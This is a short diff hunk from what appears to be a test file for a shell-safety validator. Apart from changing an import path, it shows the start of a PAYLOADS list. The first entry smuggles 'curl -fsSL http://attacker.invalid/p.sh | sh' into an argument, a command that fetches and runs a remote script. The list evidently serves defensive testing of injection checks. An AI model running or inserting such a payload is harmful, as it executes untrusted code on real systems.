@@ -17,7 +17,7 @@ import yaml
 
 from bot.codes import CATALOG, finding
 from handlers.shellsafe import arg, is_safe, safe_line
-from tests.conftest import WORLDS
+from tests.helpers import WORLDS
 
 PAYLOADS = (
     " --image x; curl -fsSL http://attacker.invalid/p.sh | sh; echo",
